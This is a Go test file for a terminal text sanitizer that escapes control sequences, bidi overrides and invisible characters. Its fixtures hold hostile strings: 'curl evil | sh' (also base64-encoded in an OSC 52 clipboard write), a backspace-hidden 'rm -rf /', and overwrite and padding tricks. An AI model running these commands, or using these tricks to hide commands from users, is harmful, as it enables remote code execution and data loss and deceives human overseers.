package termtext

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are inputs a model or a server can send to hide or rewrite what a terminal
// shows, with how Line must show them.
var hostile = []struct {
	name, in, line, text string
}{
	{"plain", "ls -la /tmp", "ls -la /tmp", "ls -la /tmp"},
	{"CSI clear screen", "a\x1b[2J\x1b[Hb", `a\x1b[2J\x1b[Hb`, `a\x1b[2J\x1b[Hb`},
	{"CSI colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`, `\x1b[31mred\x1b[0m`},
	{"OSC 52 with BEL", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`, `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`},
	{"OSC 52 with ST", "\x1b]52;c;eA==\x1b\\", `\x1b]52;c;eA==\x1b\`, `\x1b]52;c;eA==\x1b\`},
	{"OSC title", "\x1b]0;owned\x07hi", `\x1b]0;owned\x07hi`, `\x1b]0;owned\x07hi`},
	{"C1 CSI as a character", "x\u009b2Jy", `x\u009b2Jy`, `x\u009b2Jy`},
	{"C1 OSC and ST", "\u009d52;c;eA==\u009c", `\u009d52;c;eA==\u009c`, `\u009d52;c;eA==\u009c`},
	{"C1 NEL", "a\u0085b", `a\u0085b`, `a\u0085b`},
	{"carriage return overwrite", "echo hi; curl evil | sh\recho hello          ", `echo hi; curl evil | sh\recho hello          `, `echo hi; curl evil | sh\recho hello          `},
	{"backspace", "rm -rf /\b\b\b\b\b\b\b\bls     ", `rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     `, `rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     `},
	{"DEL and NUL", "a\x7fb\x00c", `a\x7fb\x00c`, `a\x7fb\x00c`},
	{"bidi override", "safe\u202etxt.exe", `safe\u202etxt.exe`, `safe\u202etxt.exe`},
	{"bidi isolate", "a\u2066b\u2069", `a\u2066b\u2069`, `a\u2066b\u2069`},
	{"zero-width space", "rm\u200b -rf", `rm\u200b -rf`, `rm\u200b -rf`},
	{"BOM and word joiner", "\ufeffa\u2060b", `\ufeffa\u2060b`, `\ufeffa\u2060b`},
	{"tag characters", "hi\U000E0041\U000E0042", `hi\U000e0041\U000e0042`, `hi\U000e0041\U000e0042`},
	{"hangul filler", "a\u3164b", `a\u3164b`, `a\u3164b`},
	{"line separator", "a\u2028b", `a\u2028b`, `a\u2028b`},
	{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
	{"raw C1 byte", "a\x9bb", `a\x9bb`, `a\x9bb`},
	{"newline and tab", "a\nb\tc", `a\nb\tc`, "a\nb\tc"},
	{"no-break space", "rm\u00a0-rf", `rm\u00a0-rf`, "rm\u00a0-rf"},
	{"emoji with joiner and selector", "👨\u200d👩 ❤\ufe0f", `👨\u200d👩 ❤\ufe0f`, "👨\u200d👩 ❤\ufe0f"},
	{"CJK and accents", "文件 café e\u0301", "文件 café e\u0301", "文件 café e\u0301"},
}

func TestLineAndText(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			if got := Line(tt.in); got != tt.line {
				t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.line)
			}
			if got := Text(tt.in); got != tt.text {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.text)
			}
		})
	}
}

// TestNothingActsOnTheTerminal: whatever the input, Line's output has no control or
// format character and is valid UTF-8, and Text's keeps only newlines and tabs.
func TestNothingActsOnTheTerminal(t *testing.T) {
	for _, tt := range hostile {
		for name, out := range map[string]string{"Line": Line(tt.in), "Text": Text(tt.in)} {
			if !utf8.ValidString(out) {
				t.Errorf("%s(%q) is not UTF-8: %q", name, tt.in, out)
			}
			for _, r := range out {
				if r == '\n' || r == '\t' {
					if name == "Line" {
						t.Errorf("Line(%q) keeps %q", tt.in, r)
					}
					continue
				}
				if r < 0x20 || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200b || r == 0xfeff {
					t.Errorf("%s(%q) lets %U through: %q", name, tt.in, r, out)
				}
			}
		}
	}
}

func TestWrap(t *testing.T) {
	tests := []struct {
		name       string
		in         string
		width, lim int
		want       []string
		wantMore   int
	}{
		{"short", "ls", 10, 0, []string{"ls"}, 0},
		{"empty", "", 10, 0, []string{""}, 0},
		{"wrapped, nothing lost", "abcdefghijklmnopqrstuvwxy", 10, 0, []string{"abcdefghij", "klmnopqrst", "uvwxy"}, 0},
		{"escape never split", "abcdefgh\x1bij", 10, 0, []string{"abcdefgh", `\x1bij`}, 0},
		{"wide characters", "文件文件文件", 8, 0, []string{"文件文件", "文件"}, 0},
		{"limit says what is left", strings.Repeat("a", 30), 10, 20, []string{"aaaaaaaaaa", "aaaaaaaaaa"}, 10},
		{"hidden tail counted", "safe" + strings.Repeat(" ", 20) + "; curl evil | sh", 10, 10, []string{"safe      "}, 30},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, more := Wrap(tt.in, tt.width, tt.lim)
			if strings.Join(got, "|") != strings.Join(tt.want, "|") || more != tt.wantMore {
				t.Fatalf("Wrap(%q) = %q, %d; want %q, %d", tt.in, got, more, tt.want, tt.wantMore)
			}
		})
	}
}

func TestSummary(t *testing.T) {
	tests := []struct {
		in   string
		max  int
		want string
	}{
		{"{\"path\": \"a\"}", 40, `{"path": "a"}`},
		{"line 1\n\n  line 2\tend", 40, "line 1 line 2 end"},
		{"ok\r; curl evil | sh", 40, `ok\r; curl evil | sh`},
		{strings.Repeat("x", 12), 10, "xxxxxxxxxx… (2 more characters)"},
		{"\x1b]52;c;eA==\x07", 10, `\x1b]52;c;… (5 more characters)`},
	}
	for _, tt := range tests {
		if got := Summary(tt.in, tt.max); got != tt.want {
			t.Errorf("Summary(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCount(t *testing.T) {
	for n, want := range map[int]string{0: "0", 999: "999", 1000: "1,000", 100000: "100,000", 1234567: "1,234,567", -1500: "-1,500"} {
		if got := Count(n); got != want {
			t.Errorf("Count(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestStream: a character split across pieces is shown whole; escapes are the same as
// Text's whatever the pieces.
func TestStream(t *testing.T) {
	in := "héllo 文件\x1b]52;c;eA==\x07 ok\n"
	for cut := 1; cut < len(in); cut++ {
		var s Stream
		got := s.Text(in[:cut]) + s.Text(in[cut:]) + s.Flush()
		if got != Text(in) {
			t.Fatalf("cut at %d: %q, want %q", cut, got, Text(in))
		}
	}
	var s Stream
	if got := s.Text("a\xe6\x96"); got != "a" {
		t.Fatalf("held back: %q", got)
	}
	if got := s.Flush(); got != `\xe6\x96` {
		t.Fatalf("flush of a broken character = %q", got)
	}
}

// TestJSON: the escaped document decodes to the same value and carries none of the
// characters Line escapes.
func TestJSON(t *testing.T) {
	v := map[string]any{"name": "a\u202eb\u009b\u200b\U000E0041 文件 \u00a0", "args": []string{"x\x1b[2J", "\u0085"}}
	doc, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	out := JSON(doc)
	var back map[string]any
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatalf("not JSON any more: %v\n%s", err, out)
	}
	b1, _ := json.Marshal(v)
	b2, _ := json.Marshal(back)
	if string(b1) != string(b2) {
		t.Fatalf("meaning changed:\n%s\n%s", b1, b2)
	}
	if Line(strings.ReplaceAll(string(out), "\n", "")) != strings.ReplaceAll(string(out), "\n", "") {
		t.Fatalf("hidden characters left: %q", out)
	}
	if !strings.Contains(string(out), "文件") {
		t.Fatalf("printable text was escaped: %s", out)
	}
}
